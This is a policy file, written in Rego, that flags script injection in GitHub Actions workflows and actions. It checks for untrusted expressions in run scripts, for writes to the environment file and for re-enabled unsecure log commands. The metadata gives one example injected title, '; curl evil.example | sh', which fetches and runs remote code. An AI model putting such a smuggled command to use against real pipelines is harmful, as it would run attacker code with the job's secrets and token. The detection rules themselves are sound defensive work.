# METADATA
# scope: package
# title: Keep untrusted expressions out of scripts and environment files
# description: |
#   GitHub pastes the value of an expression into the script before the shell reads it. A title such as
#   "; curl evil.example | sh" then runs as a command, with the secrets and the token of the job.
# related_resources:
#   - ref: https://docs.github.com/en/actions/reference/security/secure-use
# custom:
#   id: PIPE-003
#   slug: no-script-injection
#   family: PIPE
#   severity: high
#   score: 8.5
#   formats: [github-workflow, github-action]
#   scope: unit
#   resources:
#     - workflow
#     - job
#     - action
#   params:
#     - name: opaque_text
#       type: boolean
#       description: Whether text that people with write access choose counts too (inputs, ref names, vars, outputs).
#       default: false
#       presets: {strict: true}
#       stricter: true
#   packs: [baseline, reference-architecture, strict]
#   yields_to: []
#   frameworks:
#     judged:
#       nist_800_53_r5: ["SI-10", "SI-7(1)"]
#       pci_dss_4.0: ["6.2.4"]
#       soc2: ["CC8.1"]
#       iso_27001_2022: ["A.8.25", "A.8.28"]
#   cwe: [78, 94]
#   remediation:
#     github-workflow: "env: TITLE: ${{ github.event.issue.title }} then \"$TITLE\"."
#   peers:
#     checkov: [CKV_GHA_1, CKV_GHA_2]
#     zizmor: [template-injection, github-env, insecure-commands]
#     kics:
#       - 20f14e1a-a899-4e79-9f09-b6a84cd4649b
#       - 62ff6823-927a-427f-acf9-f1ea2932d616
#       - 60fd272d-15f4-4d8f-afe4-77d9c6cc0453
package policies.pipe.no_script_injection

import data.policies.lib.graph
import data.policies.lib.own_steps
import data.policies.lib.untrusted
import data.policies.lib.value

_params := data.params["PIPE-003"]

_owners := graph.of_types(["job", "action"])

# Inputs of actions that are run as code, by action.
_code_inputs := {
	"actions/github-script": "script",
	"azure/cli": "inlinescript",
	"azure/powershell": "inlinescript",
	"appleboy/ssh-action": "script",
}

# Every text that is run as code and has an expression in it: {"owner", "step", "path"}.
_code := array.concat(
	[code |
		some owner in _owners
		paths := {expression.path | some expression in owner.expressions}
		some step in owner.steps
		some key in ["run", "shell"]
		path := array.concat(step.path, [key])
		path in paths
		code := {"owner": owner, "step": step, "path": path}
	],
	[code |
		some owner in _owners
		some step in owner.steps
		step.uses != null
		input_name := object.get(_code_inputs, object.get(step.uses, "name", ""), "")
		is_object(step["with"])
		some key, _ in step["with"]
		lower(key) == input_name
		code := {"owner": owner, "step": step, "path": array.concat(step.path, ["with", key])}
	],
)

# Every expression inside code, with what its text can be. In a step that an action brings in, only what is passed to
# the action is said here, for the step that passes it.
_inside := [entry |
	some code in _code
	some expression in code.owner.expressions
	expression.path == code.path
	not _said_of_action(code.step, expression)
	entry := {"owner": code.owner, "step": code.step, "expression": expression}
]

_said_of_action(step, expression) if {
	own_steps.inlined(step)
	not regex.match(`(?i)\binputs\b`, expression.text)
}

subjects contains owner.address if {
	some owner in _owners
	some step in owner.steps
	step.kind != "none"
}

examined contains record if {
	some entry in _inside
	record := {
		"resource": entry.owner.address,
		"path": _place(entry.expression),
		"state": "known",
		"value": entry.expression.raw,
	}
}

# Always defined.
_place(expression) := array.concat(expression.path, [expression.raw])

# Always defined.
_violation(entry, message) := {
	"resource": entry.owner.address,
	"path": _place(entry.expression),
	"defect": sprintf("%s/%s", [_written(entry.expression.path), entry.expression.text]),
	"message": message,
}

# Always defined.
_written(path) := concat(".", [sprintf("%v", [part]) | some part in path])

deny contains violation if {
	some entry in _inside
	some name in untrusted.flows(entry.expression)
	violation := _violation(entry, sprintf(
		"Anyone can write the text of '%s', and it becomes code here; pass it through an env variable and quote that.",
		[name],
	))
}

# A variable filled from such text, pasted by `${{ env.NAME }}` instead of read by the shell.
deny contains violation if {
	some entry in _inside
	some flow in entry.expression.flows
	startswith(flow, "env.")
	some variable in untrusted.in_step(entry.owner, entry.step)
	flow == sprintf("env.%s", [lower(variable.name)])
	violation := _violation(entry, sprintf(
		"'env.%s' holds the text of '%s', which anyone can write, and it becomes code here; use \"$%s\" instead.",
		[variable.name, variable.context, variable.name],
	))
}

# Such text in the environment file of a job that has secrets: later steps run with variables an outsider chose.
deny contains violation if {
	untrusted.privileged
	some owner in _owners
	some step in owner.steps
	some command in step.commands
	some redirect in command.redirects
	regex.match(`GITHUB_(ENV|PATH)`, redirect.target)
	some variable in untrusted.in_step(owner, step)
	some word in command.words
	regex.match(sprintf(`\$(\{)?%s\b`, [variable.name]), word)
	violation := {
		"resource": owner.address,
		"path": array.concat(command.path, [command.text]),
		"defect": sprintf("environment-file/%s", [variable.name]),
		"message": sprintf(
			"'%s' holds the text of '%s', which anyone can write, and a line break in it sets any variable of later steps.",
			[variable.name, variable.context],
		),
	}
}

# Commands in the log could set variables until GitHub disabled that; this switches it on again.
_switch := "ACTIONS_ALLOW_UNSECURE_COMMANDS"

deny contains violation if {
	some resource in graph.of_types(["workflow", "job", "action"])
	some place in _env_places(resource)
	env := object.get(resource.node, place, null)
	is_object(env)
	some name, written in env
	upper(name) == _switch
	value.truthy(written)
	violation := {
		"resource": resource.address,
		"path": array.concat(place, [name]),
		"defect": _switch,
		"message": sprintf("'%s' lets any text in the log set variables and paths of later steps.", [name]),
	}
}

_env_places(resource) := array.concat(
	[["env"]],
	[place |
		some step in object.get(resource, "steps", [])
		object.get(step, "env", {}) != {}
		not own_steps.inlined(step)
		place := array.concat(step.path, ["env"])
	],
)

examined contains record if {
	some resource in graph.of_types(["workflow", "job", "action"])
	some place in _env_places(resource)
	record := value.present(resource, place)
	record.state != "absent"
}

# Text that only people with write access choose, where the pack asks for it.
deny contains violation if {
	_params.opaque_text
	some entry in _inside
	count(untrusted.flows(entry.expression)) == 0
	some name in entry.expression.flows
	_chosen_by_insiders(name, entry)
	violation := _violation(entry, sprintf(
		"The text of '%s' becomes code here; pass it through an env variable and quote that.",
		[name],
	))
}

_chosen_by_insiders(name, _) if regex.match(`^(github\.ref|github\.ref_name|vars\..+)$`, name)

_chosen_by_insiders(name, entry) if {
	regex.match(`^steps\..+\.outputs\..+$`, name)
	not _written_out(entry.owner, name)
}

# Whether all that a step of the job writes into an output is a literal: `echo "manager=npm" >> $GITHUB_OUTPUT`.
_written_out(owner, name) if {
	parts := split(name, ".")
	count(parts) == 4
	some step in owner.steps
	is_string(step.id)
	lower(step.id) == parts[1]
	writing := [assigned |
		some command in step.commands
		some redirect in command.redirects
		contains(redirect.target, "GITHUB_OUTPUT")
		assigned := _assigned(command, parts[3])
	]
	count([written | some written in writing; written == "literal"]) > 0
	count([written | some written in writing; written == "open"]) == 0
}

# What a command that writes outputs gives one of them: "literal", "other" (another output) or "open".
_assigned(command, output) := "literal" if {
	_names_one(command)
	lower(split(command.words[1], "=")[0]) == output
	not regex.match("[$`]", command.words[1])
}

_assigned(command, output) := "other" if {
	_names_one(command)
	lower(split(command.words[1], "=")[0]) != output
}

_assigned(command, output) := "open" if {
	_names_one(command)
	lower(split(command.words[1], "=")[0]) == output
	regex.match("[$`]", command.words[1])
}

_assigned(command, _) := "open" if not _names_one(command)

# `echo NAME=value`, with nothing before the name that a variable could fill.
_names_one(command) if {
	command.program == "echo"
	count(command.words) == 2
	regex.match(`^[A-Za-z_][\w-]*=`, command.words[1])
	not contains(command.words[1], "\n")
}

_chosen_by_insiders(name, _) if regex.match(`^needs\..+\.outputs\..+$`, name)

_chosen_by_insiders(name, entry) if _text_input(name, entry)

# An input is text unless it is declared as something else.
_text_input(name, entry) if {
	startswith(name, "inputs.")
	not _typed_input(trim_prefix(name, "inputs."), entry)
}

_text_input(name, _) if startswith(name, "github.event.inputs.")

_typed_input(name, entry) if {
	entry.owner.type == "job"
	workflow := object.get(input.resources, "workflow", {})
	some declared in ["dispatch_inputs", "call_inputs"]
	type := object.get(object.get(workflow, declared, {}), [name, "type"], "string")
	some safe in ["boolean", "number", "choice"]
	type == safe
}

# Callers of an action or a called workflow decide what its inputs hold, and they are not looked at from here.
undecided contains entry_undecided if {
	not _params.opaque_text
	some entry in _inside
	some name in entry.expression.flows
	startswith(name, "inputs.")
	not _typed_input(trim_prefix(name, "inputs."), entry)
	_has_callers(entry)
	entry_undecided := _violation(entry, sprintf(
		"The text of '%s' becomes code here, and what callers pass into it is not known.",
		[name],
	))
}

_has_callers(entry) if entry.owner.type == "action"

_has_callers(entry) if {
	entry.owner.type == "job"
	workflow := object.get(input.resources, "workflow", null)
	workflow != null
	some trigger in workflow.triggers
	trigger.event == "workflow_call"
}

# A part of the event chosen while the workflow runs can be any part of it.
undecided contains entry_undecided if {
	some entry in _inside
	entry.expression.dynamic
	some name in entry.expression.flows
	startswith(name, "github.event")
	contains(name, "[")
	entry_undecided := _violation(entry, sprintf("'%s' names a part of the event that only a run knows.", [name]))
}
